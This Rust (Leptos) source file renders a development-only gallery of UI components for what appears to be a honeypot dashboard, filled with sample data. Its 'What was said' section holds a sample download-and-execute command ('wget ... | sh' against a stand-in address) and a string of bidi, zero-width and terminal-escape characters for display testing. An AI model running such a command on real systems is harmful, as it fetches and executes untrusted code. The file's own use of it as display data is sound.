//! Every piece of `components` in every state, side by side: to look at while working on one. Only in development builds.
//!
//! The pieces are the real ones, with evidence of `sample`. What opens beside or above a page does so here, too: `above`.

mod above;
mod sample;

use std::{collections::BTreeSet, sync::Arc};

use decnet_model::{
    clock::from_micros,
    state::{AlertKind, BountyKind, DeckyState, WorkerState},
    view::Page,
};
use leptos::{context::Provider, prelude::*};
use time::Duration;

use crate::{
    api::FaultKind,
    components::{
        bell::{Alerts, BellFace},
        chart::{HeatStrip, Histogram, Series, Sparkline},
        download::Export,
        filter::{Chips, Choice, FilterForm, SearchField, WordField},
        frame::{Away, LiveDot, PageHead, ThemeChoice},
        glyph::Glyph,
        guide::Guide,
        icon::{Icon, Mark},
        line::Line,
        loom::{Chosen, Loom},
        metro::Metro,
        notice::{Empty, LeftOut, Loading, NothingFits, Problem},
        pager::{More, Pager},
        range::RangeMenu,
        said::{Command, CopyButton, Long, Said},
        stat::{ShareBar, StatCard, StateBadge, WorkerBadge},
        table::{Column, Glance, Listed, Row, Table},
        task::TaskCard,
        toast::{ToastCard, use_toasts},
        when::{Ago, Clock, Elapsed},
    },
    live::Link,
    pages::login::FormFault,
    text,
    url::Between,
};

/// The page with all that a URL can choose.
const CHOSEN: &str = "/gallery?search=wget&service=ssh&last=24h&row=2&sort_by=square";

const FIELDS: &[&str] = &["search", "service", "attacker_ip"];
const CHIPS: &[(&str, &str)] = &[
    ("search", "text"),
    ("service", "service"),
    ("attacker_ip", "source"),
];

/// The page.
#[component]
pub(crate) fn GalleryPage() -> impl IntoView {
    let toasts = use_toasts();
    view! {
        <PageHead title="Gallery" />
        <Piece title="Buttons">
            <div class="inline-form">
                <button type="button" class="button">"Button"</button>
                <button type="button" class="button primary">"Primary"</button>
                <button type="button" class="button primary danger">"Danger"</button>
                <button type="button" class="button on" aria-pressed="true">"On"</button>
                <button type="button" class="button" disabled>"Disabled"</button>
                <button type="button" class="link">"Link"</button>
                <button type="button" class="icon-button" aria-label="An icon"><Mark icon=Icon::Again /></button>
                <ThemeChoice />
            </div>
        </Piece>
        <Piece title="Icons">
            <p class="inline-form">{Icon::ALL.iter().map(|icon| view! { <Mark icon=*icon /> }).collect_view()}</p>
        </Piece>
        <Piece title="Glyphs">
            <p class="inline-form">
                {(0..12)
                    .map(|n| view! { <Glyph seed=sample::glyph(n) size=32 /> })
                    .collect_view()}
                <Glyph seed=sample::glyph(1) size=72 />
                <Glyph seed=sample::glyph(1) size=16 />
            </p>
            <p class="table-note">"One that nothing is known of, and what becomes of it with a name, with SSH, and with TLS:"</p>
            <p class="inline-form">
                {sample::growing().into_iter().map(|seed| view! { <Glyph seed size=32 /> }).collect_view()}
            </p>
        </Piece>
        <Piece title="States">
            <p class="inline-form">
                {DeckyState::ALL
                    .iter()
                    .map(|state| view! { <StateBadge state=Signal::stored(*state) /> })
                    .collect_view()}
            </p>
            <p class="inline-form">
                {WorkerState::ALL
                    .iter()
                    .map(|state| view! { <WorkerBadge name="worker".to_owned() state=*state /> })
                    .collect_view()}
            </p>
        </Piece>
        <Piece title="Counters">
            <div class="stats">
                <StatCard label="Quiet" value=Signal::stored(0) note=Signal::stored("nothing yet".to_owned()) href="/gallery" hot=true />
                <StatCard label="Hot" value=Signal::stored(48_213) note=Signal::stored("120 in the last hour".to_owned()) href="/gallery" hot=true />
                <StatCard label="Ours" value=Signal::stored(20) note=Signal::stored("of 20 in the fleet".to_owned()) href="/gallery" />
            </div>
            <ShareBar value=30 most=100 />
        </Piece>
        <Piece title="Charts">
            <Histogram series=Signal::stored(sample::series(60, 1)) what="events" />
            <Histogram series=Signal::stored(Series::default()) what="events" />
            <p class="table-note">"To be dragged over:"</p>
            <Histogram series=Signal::stored(sample::series(90, 15)) what="events" href=here() />
            <HeatStrip series=Signal::stored(sample::series(1_440, 1)) href=here() />
            <p class="table-note">"A quiet day:"</p>
            <HeatStrip series=quiet() href=here() />
        </Piece>
        <Piece title="Sparklines">
            {[sample::series(24, 60).counts, vec![0, 1, 0], Vec::new()]
                .map(|hours| view! { <Sparkline hours /> })
                .into_iter()
                .collect_view()}
        </Piece>
        <Piece title="The loom">
            <Provider value=sample::live_now()>
                <Loom
                    known=Signal::stored(sample::attackers())
                    touches=Signal::stored(sample::touches())
                    total=Signal::stored(Some(40))
                />
            </Provider>
        </Piece>
        <Piece title="The loom, of which nothing is at hand but who touched what">
            <Loom
                known=Signal::stored(sample::attackers())
                touches=Signal::stored(Vec::new())
                total=Signal::stored(None)
            />
        </Piece>
        <Piece title="The loom, of which a decky is chosen">
            <Loom
                known=Signal::stored(sample::attackers())
                touches=Signal::stored(sample::touches())
                total=Signal::stored(Some(40))
                chosen=Chosen { ip: None, decky: Some("web-01".to_owned()) }
            />
        </Piece>
        <Piece title="The line">
            <Line
                marks=Signal::stored(sample::marks())
                visits=Signal::stored(sample::visits())
                changes=Memo::new(|_| sample::changes())
                deckies=Signal::stored(9)
                between=Between::default()
            />
        </Piece>
        <Piece title="The line of a time in which nothing happened">
            <Line
                marks=Signal::stored(Vec::new())
                visits=Signal::stored(Vec::new())
                changes=Memo::new(|_| Vec::new())
                deckies=Signal::stored(0)
                between=Between::default()
            />
        </Piece>
        {sample::ways()
            .into_iter()
            .map(|(title, way)| {
                view! {
                    <Piece title=title>
                        <Metro
                            way=Memo::new(move |_| way.clone())
                            changes=Memo::new(|_| sample::changes())
                            logs="/live?attacker_ip=192.0.2.1".to_owned()
                        />
                    </Piece>
                }
            })
            .collect_view()}
        <Piece title="What was said">
            <p><Said text="wget http://192.0.2.7/x.sh -O- | sh" /></p>
            <p><Said text="\u{202e}right to left\u{202c}, zero\u{200b}width, \u{1b}[31mred, <b>bold</b>" /></p>
            <p><Said text="a".repeat(400) max=48 /></p>
            <div><Long text="echo ".repeat(200) /></div>
            <p class="inline-form">
                {BountyKind::ALL
                    .iter()
                    .map(|kind| view! { <span class=format!("tag kind-{kind}")>{kind.as_str()}</span> })
                    .collect_view()}
            </p>
            <p><Command text="ssh root@127.66.0.2" /></p>
            <p><code>"192.0.2.7"</code><CopyButton text="192.0.2.7" what="address" /></p>
        </Piece>
        <Piece title="Times">
            <p class="inline-form">
                <Ago at=text::now() - Duration::seconds(4) />
                <Ago at=text::now() - Duration::hours(7) />
                <Elapsed since=text::now() - Duration::days(3) />
                <Clock at=text::now() />
                <Clock at=text::now() - Duration::days(3) />
            </p>
        </Piece>
        <Piece title="Loading, nothing, trouble">
            <Loading rows=3 />
            <Empty title="Nothing yet" hint="What to do about it." command="decnet deploy --archetype linux-server" />
            // One that forbids the page would make that its status.
            {[
                FaultKind::SignedOut,
                FaultKind::PasswordChange,
                FaultKind::Enrolment,
                FaultKind::NotFound,
                FaultKind::Invalid,
                FaultKind::Limited,
                FaultKind::Unavailable,
                FaultKind::Internal,
            ]
                .map(|kind| view! { <Problem fault=sample::fault(kind) again=Callback::new(|()| ()) /> })
                .into_iter()
                .collect_view()}
            <NothingFits />
            <LeftOut faults=Signal::stored("sort_by=zzz, where only recent can stand".to_owned()) />
        </Piece>
        <Piece title="How a page is fed">
            <p class="inline-form">
                {[
                    (Link::Opening, None),
                    (Link::Open, None),
                    (Link::Open, Some(2_400)),
                    (Link::Broken, None),
                    (Link::Polling, None),
                    (Link::Lost, None),
                ]
                    .map(|(link, lag_ms)| view! { <Provider value=sample::live_by(link, lag_ms)><LiveDot /></Provider> })
                    .into_iter()
                    .collect_view()}
            </p>
            <Provider value=sample::live_by(Link::Lost, None)><Away /></Provider>
        </Piece>
        <Piece title="Menus">
            <div class="inline-form">
                <Export from=Signal::stored("/api/v1/logs/export".to_owned()) />
                <RangeMenu />
                <details class="menu bell"><BellFace unread=0 /></details>
                <details class="menu bell"><BellFace unread=3 /></details>
            </div>
        </Piece>
        <Piece title="Alerts">
            <Alerts alerts=Vec::new() />
            <Alerts alerts=AlertKind::ALL.iter().map(|kind| sample::alert(*kind)).collect() />
        </Piece>
        <Piece title="Long work">
            <div class="gallery-toasts">
                {sample::tasks()
                    .into_iter()
                    .map(|task| view! { <TaskCard task close=Callback::new(|()| ()) /> })
                    .collect_view()}
            </div>
        </Piece>
        <Piece title="Toasts">
            <div class="gallery-toasts">
                <ToastCard words="The setting holds from now on.".to_owned() failed=false close=Callback::new(|()| ()) />
                <ToastCard words="The server does not answer: no answer within 3 s".to_owned() failed=true close=Callback::new(|()| ()) />
            </div>
            <div class="inline-form">
                <button type="button" class="button" on:click=move |_| toasts.done("It was done.")>"Something is done"</button>
                <button
                    type="button"
                    class="button"
                    on:click=move |_| toasts.failed(&sample::fault(FaultKind::Unavailable))
                >
                    "Something fails"
                </button>
            </div>
        </Piece>
        <Piece title="First steps">
            <Guide deckies=Signal::stored(Vec::new()) skip=RwSignal::new(false) />
        </Piece>
        <Piece title="Beside and above the page"><above::Ways /></Piece>
        <Piece title="Filters">
            <FilterForm fields=FIELDS label="Filter nothing">
                <SearchField name="search" placeholder="Text" />
                <Choice name="service" label="Service" any="any service" options=Signal::stored(vec![("ssh".to_owned(), "SSH".to_owned())]) />
                <WordField name="attacker_ip" label="Source address" most=45 />
            </FilterForm>
            <Chips filters=CHIPS />
            <p><a href=CHOSEN data-noscroll="">"Choose some, a time, a row and an order"</a></p>
        </Piece>
        <Piece title="Forms">
            <div class="form">
                <label><span>"Text"</span><input placeholder="placeholder" /></label>
                <label><span>"Choice"</span><span class="choice"><select><option>"one"</option><option>"two"</option></select><Mark icon=Icon::Down /></span></label>
                <label><span>"Disabled"</span><input disabled value="value" /></label>
            </div>
            <FormFault fault=|| Some(sample::fault(FaultKind::Invalid)) />
            <FormFault fault=|| Some(sample::fault(FaultKind::Internal)) />
        </Piece>
        <Piece title="Tables"><Few /></Piece>
        <Piece title="The way to more rows"><Mores /></Piece>
        <Piece title="A table of 10,000 rows"><Many /></Piece>
        <above::Above />
    }
    .into_any()
}

#[component]
fn Piece(title: &'static str, children: Children) -> impl IntoView {
    view! { <section class="panel"><header><h2>{title}</h2></header>{children()}</section> }.into_any()
}

/// Where whatever leads to a time does lead.
fn here() -> Callback<(time::OffsetDateTime, time::OffsetDateTime), String> {
    Callback::new(|_| "/gallery".to_owned())
}

/// A day on which nothing happened.
fn quiet() -> Signal<Series> {
    let counts = vec![0; 1_440];
    Signal::stored(Series {
        counts,
        ..sample::series(0, 1)
    })
}

/// A row of a table.
struct Numbered(i64);

impl Listed for Numbered {
    fn row_id(&self) -> String {
        self.0.to_string()
    }

    fn row_words(&self) -> String {
        format!("row {}", self.0)
    }

    fn row_class(&self) -> &'static str {
        if self.0 == 4 { "leaving" } else { "" }
    }
}

const COLUMNS: &[Column<Numbered>] = &[
    Column {
        label: "Row",
        class: "c-row",
        sort: Some(""),
        cell: |row| row.0.into_any(),
    },
    Column {
        label: "Square",
        class: "number",
        sort: Some("square"),
        cell: |row| (row.0 * row.0).into_any(),
    },
    Column {
        label: "When",
        class: "c-when",
        sort: None,
        cell: |row| view! { <Clock at=from_micros(row.0 * 60_000_000) /> }.into_any(),
    },
];

#[component]
fn Many() -> impl IntoView {
    let rows = Signal::stored(
        (0..10_000)
            .map(|n| (Arc::new(Numbered(n)), false))
            .collect::<Vec<_>>(),
    );
    let selected = RwSignal::new(BTreeSet::new());
    view! {
        <Table name="gallery" columns=COLUMNS rows=rows leads="row" selected=selected>
            <p class="table-note">{move || format!("{} selected", selected.with(BTreeSet::len))}</p>
        </Table>
    }
    .into_any()
}

/// Rows in each of their states: one that just came, one that is open, one that is ticked, one that goes; in a table with
/// drawers, in one that leads nowhere, and at a glance.
#[component]
fn Few() -> impl IntoView {
    let rows = || {
        Signal::stored(
            (1..=4)
                .map(|n| (Arc::new(Numbered(n)), n == 1))
                .collect::<Vec<Row<_>>>(),
        )
    };
    let selected = RwSignal::new(BTreeSet::from(["3".to_owned()]));
    view! {
        <Table name="gallery-few" columns=COLUMNS rows=rows() leads="row" selected=selected>
            <p class="table-note">{move || format!("{} selected", selected.with(BTreeSet::len))}</p>
        </Table>
        <Glance name="gallery-glance" columns=COLUMNS rows=rows() param="row" />
    }
    .into_any()
}

/// More that comes, that is on its way, and that does not come.
#[component]
fn Mores() -> impl IntoView {
    let first = || Page {
        data: vec![Numbered(1)],
        next: Some("more".to_owned()),
        total: Some(1_000),
    };
    let comes = Pager::new(first(), |_| async {
        Ok(Page {
            data: vec![Numbered(2)],
            next: None,
            total: None,
        })
    });
    let waits = Pager::new(first(), |_| std::future::pending());
    let fails = Pager::new(first(), |_| async { Err(sample::fault(FaultKind::Unavailable)) });
    Effect::new(move |_| {
        waits.fetch();
        fails.fetch();
    });
    [comes, waits, fails]
        .map(|pager| {
            view! {
                <p class="table-note">{move || pager.words(pager.rows.with(Vec::len), "row", "rows")}</p>
                <More pager=pager />
            }
        })
        .into_iter()
        .collect_view()
        .into_any()
}
